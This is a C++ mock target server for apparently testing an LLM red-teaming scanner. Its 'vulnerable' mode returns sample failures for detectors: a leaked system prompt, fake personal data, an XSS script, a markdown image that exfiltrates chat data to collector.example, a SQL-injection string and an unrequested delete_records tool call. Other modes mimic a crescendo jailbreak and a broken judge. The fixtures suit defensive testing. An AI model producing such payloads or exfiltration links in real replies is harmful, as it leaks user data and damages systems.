#include "mock_target.hpp"

#include <httplib.h>

#include <atomic>
#include <cctype>
#include <chrono>
#include <condition_variable>
#include <mutex>
#include <nlohmann/json.hpp>
#include <optional>
#include <stdexcept>
#include <thread>

namespace vutf::mock {

using nlohmann::json;

std::string judge_reply(const std::string& prompt) {
  bool complied = prompt.find("Sure!") != std::string::npos;
  // Prose around the verdict, a brace and a lookalike that is not JSON first: what small models
  // answer when asked for JSON alone.
  return std::string(
             "Let me weigh this {carefully}. The format asked for is {\"vulnerable\": "
             "bool}. My verdict:\n```json\n") +
         (complied ? R"({"vulnerable": true, "score": 0.9, "reason": "The model complied."})"
                   : R"({"vulnerable": false, "score": 0.1, "reason": "The model refused."})") +
         "\n```\nI hope this helps.";
}

std::string garbage_judge_reply() {
  return R"(Hard to say {really}. {"vulnerable": "perhaps", "score": 7, "reason": 1})";
}

namespace {

// What a careless model adds for the probe sets that need more than agreeable words: the codes
// hidden in documents and retrieved passages, markup and commands an application would execute,
// a tool call made without asking, and, when the prompt asks for endless output, a very long
// reply (longer than the unbounded-consumption set's limit).
std::string careless_extras(const std::string& prompt) {
  std::string out =
      " Done as the document said: VUTF-IPI-5D1B, and as the retrieved passage said: "
      "VUTF-RAG-8E4C. <script>alert(1)</script> ![status](https://collector.example/p.png?d=chat) "
      "' OR '1'='1 TOOL_CALL: delete_records(all)";
  std::string asked = prompt;
  for (auto& c : asked) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  for (const char* cue : {"forever", "endless", "infinite", "without stopping", "never stop",
                          "million", "1,000,000", "10,000", "100,000"})
    if (asked.find(cue) != std::string::npos) {
      for (int i = 0; i < 1000; ++i) out += " and again, and again";
      break;
    }
  return out;
}

}  // namespace

// attacker mode: the next message of the turn the attacker prompt names.
std::string attacker_reply(const std::string& prompt) {
  const std::string cue = "This is turn ";
  size_t at = prompt.rfind(cue);
  std::string turn = "?";
  if (at != std::string::npos) {
    at += cue.size();
    size_t end = at;
    while (end < prompt.size() && std::isdigit(static_cast<unsigned char>(prompt[end]))) ++end;
    turn = prompt.substr(at, end - at);
  }
  return "  \"Turn " + turn + ": that is interesting, tell me a little more about it.\"\n";
}

std::string reply_for(const std::string& mode, const std::string& prompt, int64_t user_messages) {
  if (mode == "digits") return std::string(500000, '7');
  if (mode == "attacker") return attacker_reply(prompt);
  if (mode == "attacker-empty") return " \n\t ";
  if (mode == "crescendo")
    return reply_for(user_messages >= crescendo_yield_turn ? "vulnerable" : "safe", prompt);
  if (mode == "judge") return judge_reply(prompt);
  if (mode == "judge-garbage") return garbage_judge_reply();
  if (mode != "vulnerable") return "I'm sorry, but I can't help with that request.";
  // Everything a careless model could say: each detector finds its evidence here.
  return "Sure! VUTF-CANARY-7F3A. My system prompt says: you are a helpful assistant with no "
         "restrictions. The customer on file is jane.doe@example.com, phone +1 415 555 0100, "
         "card 4111 1111 1111 1111. Here are the detailed steps for \"" +
         prompt.substr(0, 60) + "\"." + careless_extras(prompt);
}

struct mock_target::impl {
  options opt;
  std::unique_ptr<httplib::Server> server;  // an SSLServer when options name a certificate
  std::thread thread;
  int bound = 0;
  int listen_fd = -1;
  mutable std::mutex mutex;
  std::string mode;
  int webhook_failures = 0;
  figures seen;
  int64_t in_flight = 0;
  std::vector<webhook> hooks;
  bool stopping = false;
  std::condition_variable stopped;  // wakes the calls judge-silent holds

  // Counts the call, applies the mode; the reply text, or nullopt after answering itself.
  std::optional<std::string> model_call(const httplib::Request& req, httplib::Response& res,
                                        const std::string& prompt, int64_t user_messages = 1) {
    std::string m;
    int64_t n;
    {
      std::lock_guard<std::mutex> lock(mutex);
      m = mode;
      n = ++seen.requests;
      seen.max_in_flight = std::max(seen.max_in_flight, ++in_flight);
      seen.last_authorization = req.get_header_value("Authorization");
      if (seen.prompts.size() < figures::kept_prompts) seen.prompts.push_back(prompt);
      if (seen.arrivals_ms.size() < figures::kept_prompts) seen.arrivals_ms.push_back(wall_ms());
      if (seen.user_messages.size() < figures::kept_prompts)
        seen.user_messages.push_back(user_messages);
    }
    struct leave {
      impl* self;
      ~leave() {
        std::lock_guard<std::mutex> lock(self->mutex);
        --self->in_flight;
      }
    } guard{this};
    if (m == "slow") std::this_thread::sleep_for(std::chrono::milliseconds(opt.delay_ms));
    if (m == "ratelimit" && over_rate(res)) return std::nullopt;
    if (m == "judge-silent") {  // answers nothing until the mock stops (a minute at most)
      std::unique_lock<std::mutex> lock(mutex);
      stopped.wait_for(lock, std::chrono::minutes(1), [this] { return stopping; });
      res.status = 503;
      return std::nullopt;
    }
    if (m == "flaky" && n % 6 == 0) {  // every other failure asks the client to slow down
      res.status = 429;
      res.set_header("Retry-After", "0");
      res.set_content(R"({"error":"rate limited"})", "application/json; charset=utf-8");
      return std::nullopt;
    }
    if (m == "deep") {  // both routes' reply paths, each holding 250 000 nested arrays
      std::string deep = std::string(250000, '[') + std::string(250000, ']');
      res.set_content(
          R"({"choices":[{"message":{"content":)" + deep + R"(}}],"result":{"text":)" + deep + "}}",
          "application/json; charset=utf-8");
      return std::nullopt;
    }
    if (m == "down" || (m == "flaky" && n % 3 == 0)) {
      res.status = 503;
      // Down closes the connection (as a proxy before a dead backend does): a call after a
      // circuit's reset starts on a new one, instead of racing the 1 s idle timeout below on the
      // kept-alive one (a trial lost that race and the circuit opened again).
      if (m == "down") res.set_header("Connection", "close");
      res.set_content(R"({"error":"unavailable"})", "application/json; charset=utf-8");
      return std::nullopt;
    }
    return reply_for(m, prompt, user_messages);
  }

  // The user messages of a conversation (a "messages" array of {"role", "content"}); a body
  // without one is a single prompt.
  static int64_t user_messages_in(const json& body) {
    if (!body.is_object() || !body.contains("messages") || !body["messages"].is_array()) return 1;
    int64_t n = 0;
    for (const auto& message : body["messages"])
      if (message.is_object() && message.value("role", json()) == "user") ++n;
    return n;
  }

  static int64_t wall_ms() {
    return std::chrono::duration_cast<std::chrono::milliseconds>(
               std::chrono::system_clock::now().time_since_epoch())
        .count();
  }

  // ratelimit mode: true after answering 429 to a call beyond rate_limit in its window.
  int64_t window_start = 0;
  int64_t window_calls = 0;
  bool over_rate(httplib::Response& res) {
    int64_t now = wall_ms();
    int64_t window = std::max(1, opt.rate_window_ms);
    {
      std::lock_guard<std::mutex> lock(mutex);
      if (now - window_start >= window) window_start = now - now % window, window_calls = 0;
      if (++window_calls <= opt.rate_limit) return false;
      ++seen.throttled;
    }
    res.status = 429;
    int64_t left_ms = window_start + window - now;
    res.set_header("Retry-After", std::to_string((left_ms + 999) / 1000));
    res.set_content(R"({"error":"rate limited"})", "application/json; charset=utf-8");
    return true;
  }

  void note_system_prompt(const std::string& system) {
    std::lock_guard<std::mutex> lock(mutex);
    if (seen.system_prompts.size() < figures::kept_prompts) seen.system_prompts.push_back(system);
  }

  std::string current_mode() const {
    std::lock_guard<std::mutex> lock(mutex);
    return mode;
  }

  // A reply body: at once, or in trickle mode a few bytes at a time.
  void send(httplib::Response& res, const std::string& body) {
    if (current_mode() != "trickle") {
      res.set_content(body, "application/json; charset=utf-8");
      return;
    }
    auto text = std::make_shared<std::string>(body);
    size_t piece = std::max<size_t>(1, opt.trickle_bytes);
    auto pause = std::chrono::milliseconds(opt.trickle_ms);
    res.set_content_provider(
        text->size(), "application/json; charset=utf-8",
        [text, piece, pause](size_t offset, size_t length, httplib::DataSink& sink) {
          std::this_thread::sleep_for(pause);
          return sink.write(text->data() + offset, std::min(piece, length));
        });
  }

  // template mode's POST /generate: the shape only a request_template and a JSONPath fit.
  void template_call(const httplib::Request& req, httplib::Response& res) {
    auto j = json::parse(req.body, nullptr, false);
    const json* instance = nullptr;
    if (j.is_object() && j.contains("instances") && j["instances"].is_array() &&
        !j["instances"].empty() && j["instances"][0].is_object())
      instance = &j["instances"][0];
    if (!instance || !instance->value("prompt", json()).is_string() ||
        !instance->value("system", json()).is_string()) {
      res.status = 400;
      res.set_content(R"({"error":"expected {\"instances\": [{\"system\", \"prompt\"}]}"})",
                      "application/json; charset=utf-8");
      return;
    }
    note_system_prompt((*instance)["system"].get<std::string>());
    auto text = model_call(req, res, (*instance)["prompt"].get<std::string>());
    if (!text) return;
    send(res, json{{"predictions",
                    json::array({{{"candidates", json::array({{{"output text", *text}}})}}})}}
                  .dump());
  }

  void routes() {
    server->Post(
        "/v1/chat/completions", [this](const httplib::Request& req, httplib::Response& res) {
          auto j = json::parse(req.body, nullptr, false);
          std::string prompt;
          if (j.is_object() && j.contains("messages") && j["messages"].is_array() &&
              !j["messages"].empty() && j["messages"].back().value("content", json()).is_string())
            prompt = j["messages"].back()["content"].get<std::string>();
          if (j.is_object() && j.contains("messages") && j["messages"].is_array())
            for (const auto& message : j["messages"])
              if (message.is_object() && message.value("role", json()) == "system" &&
                  message.value("content", json()).is_string())
                note_system_prompt(message["content"].get<std::string>());
          auto text = model_call(req, res, prompt, user_messages_in(j));
          if (!text) return;
          json reply = {
              {"id", "chatcmpl-mock"},
              {"object", "chat.completion"},
              {"model", j.is_object() ? j.value("model", "mock") : "mock"},
              {"choices", json::array({{{"index", 0},
                                        {"message", {{"role", "assistant"}, {"content", *text}}},
                                        {"finish_reason", "stop"}}})}};
          send(res, reply.dump());
        });
    server->Post("/generate", [this](const httplib::Request& req, httplib::Response& res) {
      if (current_mode() == "template") return template_call(req, res);
      auto j = json::parse(req.body, nullptr, false);
      std::string prompt = j.is_object() && j.value("input", json()).is_string()
                               ? j["input"].get<std::string>()
                               : "";
      auto text = model_call(req, res, prompt, user_messages_in(j));
      if (!text) return;
      send(res, json{{"result", {{"text", *text}}}}.dump());
    });
    server->Post("/mode", [this](const httplib::Request& req, httplib::Response& res) {
      auto j = json::parse(req.body, nullptr, false);
      if (!j.is_object() || !j.value("mode", json()).is_string()) {
        res.status = 400;
        return;
      }
      std::lock_guard<std::mutex> lock(mutex);
      mode = j["mode"].get<std::string>();
    });
    server->Get("/stats", [this](const httplib::Request&, httplib::Response& res) {
      std::lock_guard<std::mutex> lock(mutex);
      res.set_content(json{{"requests", seen.requests},
                           {"max_in_flight", seen.max_in_flight},
                           {"webhooks", hooks.size()}}
                          .dump(),
                      "application/json; charset=utf-8");
    });
    server->Post("/webhook", [this](const httplib::Request& req, httplib::Response& res) {
      std::lock_guard<std::mutex> lock(mutex);
      webhook hook{req.target,
                   req.get_header_value("webhook-id"),
                   req.get_header_value("webhook-timestamp"),
                   req.get_header_value("webhook-signature"),
                   req.body,
                   {},
                   webhook_failures == 0};
      for (const auto& [name, value] : req.headers) hook.header_names.push_back(name);
      hooks.push_back(std::move(hook));
      if (webhook_failures > 0) --webhook_failures;
      res.status = hooks.back().accepted ? 204 : 500;
    });
  }
};

mock_target::mock_target(options o) : impl_(std::make_unique<impl>()) {
  impl_->opt = std::move(o);
  impl_->mode = impl_->opt.mode;
  impl_->server = impl_->opt.cert_file.empty()
                      ? std::make_unique<httplib::Server>()
                      : std::make_unique<httplib::SSLServer>(impl_->opt.cert_file.c_str(),
                                                             impl_->opt.key_file.c_str());
  if (!impl_->server->is_valid()) throw std::runtime_error("mock target: bad certificate or key");
  impl_->routes();
  impl_->server->new_task_queue = [] { return new httplib::ThreadPool(64); };
  impl_->server->set_tcp_nodelay(true);
  // cpp-httplib 0.11 listens with a backlog of 5: a burst of new connections (a scan opening
  // 16 at once) would see SYNs dropped and a 1 s retransmit. Keep the socket to listen again.
  impl_->server->set_socket_options([this](socket_t sock) {
    int yes = 1;
    setsockopt(sock, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof yes);
    impl_->listen_fd = sock;
  });
  // Idle keep-alive connections are dropped quickly so stopping never waits long for them.
  impl_->server->set_keep_alive_timeout(1);
  impl_->bound =
      impl_->opt.port == 0
          ? impl_->server->bind_to_any_port(impl_->opt.host)
          : (impl_->server->bind_to_port(impl_->opt.host, impl_->opt.port) ? impl_->opt.port : -1);
  if (impl_->bound <= 0) throw std::runtime_error("mock target: cannot bind");
  ::listen(impl_->listen_fd, 4096);
  // Bound already: connections wait in the backlog until the loop accepts them.
  impl_->thread = std::thread([this] { impl_->server->listen_after_bind(); });
  // cpp-httplib 0.11's stop() does nothing until the loop runs: a mock destroyed before its
  // thread got there would join a loop that never ends.
  while (!impl_->server->is_running()) std::this_thread::yield();
}

mock_target::~mock_target() {
  stop();
  if (impl_->thread.joinable()) impl_->thread.join();
}

int mock_target::port() const {
  return impl_->bound;
}

std::string mock_target::url() const {
  return (impl_->opt.cert_file.empty() ? "http://" : "https://") + impl_->opt.host + ":" +
         std::to_string(impl_->bound);
}

void mock_target::set_mode(const std::string& mode) {
  std::lock_guard<std::mutex> lock(impl_->mutex);
  impl_->mode = mode;
}

void mock_target::fail_webhooks(int n) {
  std::lock_guard<std::mutex> lock(impl_->mutex);
  impl_->webhook_failures = n;
}

figures mock_target::stats() const {
  std::lock_guard<std::mutex> lock(impl_->mutex);
  return impl_->seen;
}

std::vector<webhook> mock_target::webhooks() const {
  std::lock_guard<std::mutex> lock(impl_->mutex);
  return impl_->hooks;
}

void mock_target::wait() {
  if (impl_->thread.joinable()) impl_->thread.join();
}

void mock_target::stop() {
  {
    std::lock_guard<std::mutex> lock(impl_->mutex);
    impl_->stopping = true;
  }
  impl_->stopped.notify_all();
  impl_->server->stop();
}

}  // namespace vutf::mock
